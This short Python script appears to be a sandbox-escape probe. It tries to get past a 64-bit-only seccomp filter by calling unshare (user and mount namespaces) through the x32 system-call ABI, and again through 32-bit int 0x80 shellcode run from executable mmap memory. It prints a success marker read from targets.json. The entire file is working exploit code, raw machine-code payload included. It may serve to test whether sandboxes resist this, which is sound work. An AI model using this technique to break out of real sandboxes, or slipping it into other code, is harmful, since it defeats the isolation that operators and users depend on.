# Makes system calls in the ways that a filter for 64 bits may have forgotten: of 32 bits, of x32.
import ctypes
import json
import mmap
import os
import platform

targets = json.load(open("targets.json"))
libc = ctypes.CDLL(None, use_errno=True)
if platform.machine() == "x86_64":
    for number, flags in ((272, 0x10000000), (272, 0x20000)):  # unshare
        if libc.syscall(0x40000000 | number, flags) == 0:
            print(targets["success"])
    # mov eax, 310 (unshare); mov ebx, CLONE_NEWUSER; int 0x80; ret
    code = b"\x53\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\x5b\xc3"
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
    child = os.fork()
    if child == 0:
        os._exit(7 if call() == 0 else 0)
    _, status = os.waitpid(child, 0)
    if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 7:
        print(targets["success"])
